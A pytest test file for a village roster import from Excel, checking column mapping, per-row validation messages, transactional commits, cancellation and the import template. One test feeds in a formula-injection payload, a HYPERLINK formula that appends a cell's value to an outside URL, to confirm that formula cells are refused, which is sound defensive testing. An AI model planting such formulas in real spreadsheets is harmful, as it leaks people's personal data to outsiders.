"""Roster import from Excel: mapping, row-by-row report with the schema's messages, nothing written until
commit, one transaction through the repositories (outbox), cancel, numeric IDs, formulas, the template."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from desktop.services import roster_import as ri
from desktop.services.roster_template import write_template
from desktop.storage import KdfParams, Store
from sync.resident_id import make_resident_id

VILLAGE = "530102001001"
HEADERS = ["户号*", "户主姓名*", "家庭住址*", "家庭类别*", "姓名*", "公民身份号码*", "与户主关系*", "民族*",
           "医疗保险"]  # fmt: skip


def rid(n: int, year: int = 1970) -> str:
    return make_resident_id("530102", date(year, 1 + n % 12, 1 + n % 28), (n * 2) % 1000)


def row(no: str, head: str, name: str, n: int, relation: str = "户主", **over: Any) -> list[Any]:
    values = {"户号*": no, "户主姓名*": head, "家庭住址*": "一组1号", "家庭类别*": "一般户",
              "姓名*": name, "公民身份号码*": rid(n), "与户主关系*": relation, "民族*": "汉族",
              "医疗保险": "城乡居民医保"}  # fmt: skip
    values.update({(k + "*" if k + "*" in values else k): v for k, v in over.items()})
    return [values[h] for h in HEADERS]


def workbook(path: Path, rows: list[list[Any]], headers: list[str] = HEADERS) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(headers)
    for r in rows:
        sheet.append(r)
    book.save(path)
    return path


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = Store.create(tmp_path / "v.vdd", "clerk", "green hills 2025", VILLAGE, kdf=KdfParams.fast_for_tests())
    yield s
    s.close()


def _plan(store: Store, path: Path) -> ri.Plan:
    roster = ri.read_roster(path)
    return ri.check(store, roster, ri.guess_mapping(store.forms, roster.headers))


def _counts(store: Store) -> tuple[int, int, int]:
    return store.household.count(), store.person.count(), store.pending_count()


def test_a_good_roster_is_written_in_one_go_with_the_outbox(store: Store, tmp_path: Path) -> None:
    existing = store.household.create({"household_no": "0009", "head_name": "老户主", "address": "二组",
                                       "category": "ordinary", "status": "active"})  # fmt: skip
    path = workbook(tmp_path / "r.xlsx", [
        row("0001", "张三", "张三", 1),
        row("0001", "张三", "李梅", 2, "配偶"),
        row(1002, "王五", "王五", 3, 家庭类别="低保户"),  # a household number typed as a number
        row("0002", "王五", "王小", 4, "子女"),
        row("0009", "老户主", "新成员", 5, "子女"),  # joins the household already in the store
    ])  # fmt: skip
    plan = _plan(store, path)
    assert plan.problems == [] and plan.ok
    assert (plan.rows, plan.new_households, plan.existing_households) == (5, 3, 1)
    assert _counts(store) == (1, 0, 1)  # checked, nothing written
    made = ri.commit(store, plan)
    assert made == {"household": 3, "person": 5}
    assert _counts(store) == (4, 5, 1 + 3 + 5)  # every record captured in the outbox
    by_name = {p["name"]: p for p in store.person.iter_all()}
    assert by_name["新成员"]["household_id"] == existing
    assert by_name["张三"]["household_id"] == by_name["李梅"]["household_id"]
    assert by_name["李梅"]["relation"] == "spouse" and by_name["张三"]["medical_insurance"] == "resident"
    assert by_name["张三"]["sex"] in ("male", "female") and by_name["张三"]["birth_date"]  # from the ID
    assert by_name["张三"]["status"] == "present"
    numbers = {h["household_no"]: h for h in store.household.iter_all()}
    assert set(numbers) == {"0001", "1002", "0002", "0009"} and numbers["1002"]["category"] == "low_income"
    audit = store.db.query("SELECT detail FROM audit_log WHERE action = 'roster_import'")
    assert audit == [("household 3, person 5",)]


def test_bad_rows_are_each_reported_and_nothing_is_written(store: Store, tmp_path: Path) -> None:
    bad_id = rid(7)[:-1] + ("0" if rid(7)[-1] != "0" else "1")
    path = workbook(tmp_path / "bad.xlsx", [
        row("0001", "张三", "张三", 1),
        row("0001", "张三", "", 2, "配偶"),  # row 3: no name
        row("0001", "张三", "张二", 1, "子女"),  # row 4: same resident ID as row 2
        row("0001", "张三", "张四", 3),  # row 5: a second head
        row("0002", "李四", "李四", 4, 家庭类别="富裕户"),  # row 6: not a category
        row("0003", "赵六", "赵六", 5, 公民身份号码=bad_id),  # row 7: wrong check digit
        row("0004", "钱七", "钱七", 6, 户号="no/slash"),  # row 8: household number pattern
    ])  # fmt: skip
    before = _counts(store)
    plan = _plan(store, path)
    assert not plan.ok and plan.bad_rows == 6
    columns: dict[int, set[str]] = {}
    for p in plan.problems:
        assert p.zh and p.en
        columns.setdefault(p.row, set()).add(p.column)
    first = {}
    for p in reversed(plan.problems):
        first[(p.row, p.column)] = p
    assert set(columns) == {3, 4, 5, 6, 7, 8}
    assert columns[3] == {"姓名*"}
    assert columns[4] == {"公民身份号码*"} and "相同的公民身份号码" in first[(4, "公民身份号码*")].zh
    assert columns[5] == {"与户主关系*"} and "户主" in first[(5, "与户主关系*")].zh
    assert columns[6] == {"家庭类别*"}
    assert columns[7] == {"公民身份号码*"}  # not also the sex and birth date it could not give
    assert columns[8] == {"户号*"}
    for p in plan.problems:  # the schema's messages never repeat the value
        assert bad_id not in p.zh + p.en and "富裕户" not in p.zh + p.en
    with pytest.raises(ValueError):
        ri.commit(store, plan)
    assert _counts(store) == before


def test_rows_of_one_household_must_agree(store: Store, tmp_path: Path) -> None:
    path = workbook(tmp_path / "agree.xlsx", [
        row("0001", "张三", "张三", 1),
        row("0001", "张三", "李梅", 2, "配偶", 家庭住址="二组9号"),
        row("0001", "张叁", "张小", 3, "子女"),
    ])  # fmt: skip
    plan = _plan(store, path)
    assert [(p.row, p.column) for p in plan.problems] == [(3, "家庭住址*"), (4, "户主姓名*")]
    assert "第 2 行" in plan.problems[0].zh and "row 2 " in plan.problems[0].en


def test_resident_ids_stored_as_numbers_are_refused_with_the_reason(store: Store, tmp_path: Path) -> None:
    path = workbook(tmp_path / "n.xlsx", [
        row("0001", "张三", "张三", 1, 公民身份号码=int(rid(1).replace("X", "0"))),
        row("0002", "李四", "李四", 2, 公民身份号码=float(rid(2).replace("X", "0"))),
        row("0003", "王五", "王五", 3),
    ])  # fmt: skip
    plan = _plan(store, path)
    assert [(p.row, p.column) for p in plan.problems] == [(2, "公民身份号码*"), (3, "公民身份号码*")]
    assert "数字" in plan.problems[0].zh and "number" in plan.problems[0].en
    assert len(plan.planned) == 1 and not plan.ok


def test_formula_cells_are_refused(store: Store, tmp_path: Path) -> None:
    path = workbook(tmp_path / "f.xlsx", [
        row("0001", "张三", "张三", 1, 家庭住址='=HYPERLINK("http://x"&C2,"点此核对")'),
        row("0002", "李四", "=B3", 2),
    ])  # fmt: skip
    plan = _plan(store, path)
    assert [(p.row, p.column) for p in plan.problems] == [(2, "家庭住址*"), (3, "姓名*")]
    assert "公式" in plan.problems[0].zh and "formula" in plan.problems[0].en
    assert store.household.count() == 0


def test_mapping_by_english_headers_in_another_order(store: Store, tmp_path: Path) -> None:
    headers = ["Name", "Resident ID number", "Household number", "Name of household head", "address",
               "Household category", "Relation to household head", "Ethnic group",
               "Unrelated column"]  # fmt: skip
    path = workbook(tmp_path / "en.xlsx", [["Ma Li", rid(1), "0001", "Ma Li", "Lane 3", "ordinary",
                                            "Head of household", "Han", "x"]], headers)  # fmt: skip
    roster = ri.read_roster(path)
    mapping = ri.guess_mapping(store.forms, roster.headers)
    assert mapping[("person", "name")] == 0 and mapping[("household", "household_no")] == 2
    assert mapping[("person", "education")] is None
    plan = ri.check(store, roster, mapping)
    assert plan.problems == [], plan.problems
    ri.commit(store, plan)
    assert next(iter(store.person.iter_all()))["relation"] == "head"


def test_a_missing_column_is_reported_as_required(store: Store, tmp_path: Path) -> None:
    path = workbook(tmp_path / "m.xlsx", [["0001", "张三"]], ["户号", "姓名"])
    plan = _plan(store, path)
    columns = {p.column for p in plan.problems}
    assert {"户主姓名*", "家庭住址*", "公民身份号码*", "与户主关系*"} <= columns


def test_cancel_during_commit_writes_nothing(store: Store, tmp_path: Path) -> None:
    path = workbook(tmp_path / "c.xlsx", [row(f"{i:04d}", f"户{i}", f"户{i}", i) for i in range(1, 301)])
    plan = _plan(store, path)
    assert plan.ok
    seen: list[int] = []
    with pytest.raises(ri.ImportCancelled):
        ri.commit(
            store, plan, progress=lambda done, total: seen.append(done), cancelled=lambda: len(seen) >= 2
        )
    assert seen == [100, 200] and _counts(store) == (0, 0, 0)


def test_not_a_workbook(store: Store, tmp_path: Path) -> None:
    bad = tmp_path / "x.xlsx"
    bad.write_bytes(b"not a zip")
    with pytest.raises(ri.ImportRefused) as caught:
        ri.read_roster(bad)
    assert "xlsx" in caught.value.zh


def test_the_template_maps_itself_and_its_example_passes(store: Store, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_template(tmp_path / "模板")
    assert path.name == "模板.xlsx"
    book = load_workbook(path)
    assert book.sheetnames == ["花名册", "选项", "说明"]
    sheet = book["花名册"]
    header = [c.value for c in sheet[1]]
    id_col = header.index("公民身份号码*") + 1
    assert sheet.cell(row=500, column=id_col).number_format == "@"
    assert sheet.data_validations.dataValidation  # drop-downs for the choices
    roster = ri.read_roster(path)
    mapping = ri.guess_mapping(store.forms, roster.headers)
    assert all(v is not None for v in mapping.values())
    plan = ri.check(store, roster, mapping)
    assert plan.ok, plan.problems
